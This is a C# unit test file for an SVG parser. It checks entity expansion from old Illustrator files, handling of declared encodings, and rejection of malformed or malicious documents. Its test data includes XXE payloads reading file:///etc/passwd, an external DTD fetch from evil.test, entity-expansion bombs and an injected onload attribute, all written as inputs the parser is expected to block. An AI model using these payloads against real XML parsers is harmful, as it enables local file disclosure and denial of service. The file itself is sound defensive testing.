using System.Text;
using System.Xml;
using System.Xml.Linq;
using XQr.Rendering.Svg;

namespace XQr.Rendering.Tests;

/// <summary>SVG files as old and new drawing programs write them.</summary>
public sealed class SvgSourceTests
{
    private const string Namespace = "xmlns='http://www.w3.org/2000/svg'";

    public static TheoryData<string, string> Invalid => new()
    {
        { $"<!DOCTYPE svg [<!ENTITY a 'text'>]><svg {Namespace}><text>&a;</text></svg>", "no entity such as &a; in text" },
        { $"<!DOCTYPE svg [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'>]><svg {Namespace} id='&b;'/>", "declare the entity &b; with a value of plain text" },
        { $"<!DOCTYPE svg [<!ENTITY a '%b;'>]><svg {Namespace} id='&a;'/>", "declare the entity &a;" },
        { $"<!DOCTYPE svg [<!ENTITY a '&#60;'>]><svg {Namespace} id='&a;'/>", "declare the entity &a;" },
        { $"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg {Namespace} id='&a;'/>", "declare the entity &a;" },
        { $"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg {Namespace}>&a;</svg>", "no entity such as &a;" },
        { $"<!DOCTYPE svg [<!ENTITY % p SYSTEM 'https://evil.test/x.dtd'> %p;]><svg {Namespace} id='&external;'/>", "declare the entity &external;" },
        { $"<!DOCTYPE svg [<!ENTITY a '{new string('a', 4000)}'>]><svg {Namespace}>{Uses(100)}</svg>", "more than 262144 characters" },
        { $"<!DOCTYPE svg [<!ENTITY a '{new string('a', 5000)}'>]><svg {Namespace} id='&a;'/>", "declare the entity &a;" },
        { $"<!DOCTYPE svg [<!-- <!ENTITY a 'a'> -->]><svg {Namespace} id='&a;'/>", "declare the entity &a;" },
        { $"<svg {Namespace}>\n  <g></svg>", "well-formed XML: it is not at line 2, column" },
        { $"<svg {Namespace}>&a;</svg>", "well-formed XML" },
        { string.Concat(Enumerable.Repeat("<!DOCTYPE svg [", 100_000)), "well-formed XML" },
        { $"<?xml version='1.0' encoding='UTF-7'?><svg {Namespace}/>", "UTF-8, or declare a supported encoding" },
        { $"<?xml version='1.0' encoding='IBM037'?><svg {Namespace}/>", "UTF-8, or declare a supported encoding" },
    };

    /// <summary>Illustrator 9 to CS3 wrote namespaces and styles as entities.</summary>
    [Fact]
    public void EntitiesOfAttributes_AreExpanded()
    {
        var root = Read(Encoding.UTF8.GetBytes(
            """
            <?xml version="1.0" encoding="utf-8"?>
            <!-- Generator: Adobe Illustrator, with a > and a ' -->
            <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
            	<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
            	<!ENTITY ns_svg "http://www.w3.org/2000/svg">
            	<!ENTITY st0 'fill:#F00;font-family:"A"'>
            	<!ENTITY st0 'fill:#0F0'>
            	<!ELEMENT svg ANY> <!ATTLIST svg onload CDATA "evil()">
            ]>
            <svg xmlns:i="&ns_ai;" xmlns="&ns_svg;"><g style="&st0;" id='a&amp;b > c'><!-- &none; --><![CDATA[ &none; ]]></g></svg>
            """));

        Assert.Equal("http://www.w3.org/2000/svg", root.Name.NamespaceName);
        Assert.Null(root.Attribute("onload"));
        var group = Assert.Single(root.Elements());
        Assert.Equal("fill:#F00;font-family:\"A\"", (string?)group.Attribute("style"));
        Assert.Equal("a&b > c", (string?)group.Attribute("id"));
        Assert.Equal(" &none; ", group.Value);
    }

    [Theory]
    [InlineData("utf-8", "utf-8", false)]
    [InlineData("utf-8", "utf-8", true)]
    [InlineData("utf-8", "UTF-16", false)]
    [InlineData("utf-8", "us-ascii", true)]
    [InlineData("utf-16", "UTF-16", true)]
    [InlineData("utf-16", "UTF-16", false)]
    [InlineData("utf-16BE", "UTF-16", true)]
    [InlineData("utf-16BE", "utf-16", false)]
    [InlineData("iso-8859-1", "ISO-8859-1", false)]
    [InlineData("windows-1252", "windows-1252", false)]
    [InlineData("iso-8859-15", "iso-8859-15", false)]
    [InlineData("windows-1250", "Windows-1250", false)]
    public void DeclaredEncoding_IsRead(string actual, string declared, bool hasMark)
    {
        var encoding = CodePagesEncodingProvider.Instance.GetEncoding(actual) ?? Encoding.GetEncoding(actual);
        var text = encoding.GetBytes($"<?xml version=\"1.0\" encoding='{declared}'?><svg {Namespace}><title>Café</title></svg>");

        Assert.Equal("Café", Read(hasMark ? [.. encoding.GetPreamble(), .. text] : text).Value);
    }

    [Fact]
    public void BytesOfAnotherEncoding_AreAnError()
    {
        using var reader = SvgSource.TryOpen(Encoding.Latin1.GetBytes($"<svg {Namespace}><title>Café</title></svg>"), out var error);

        Assert.Null(reader);
        Assert.Equal("must have only valid bytes of its encoding, utf-8; save it as UTF-8", error);
    }

    [Theory, MemberData(nameof(Invalid))]
    public void InvalidDocument_IsRejectedWithTheReason(string document, string expected)
    {
        using var reader = SvgSource.TryOpen(Encoding.UTF8.GetBytes(document), out var error);
        error ??= SvgSource.Describe(Assert.ThrowsAny<XmlException>(() => XElement.Load(reader!)));

        Assert.Contains(expected, error, StringComparison.Ordinal);
    }

    private static string Uses(int count) => string.Concat(Enumerable.Repeat("<g id='&a;'/>", count));

    private static XElement Read(byte[] file)
    {
        using var reader = SvgSource.TryOpen(file, out var error);
        Assert.Null(error);
        return XElement.Load(reader!);
    }
}
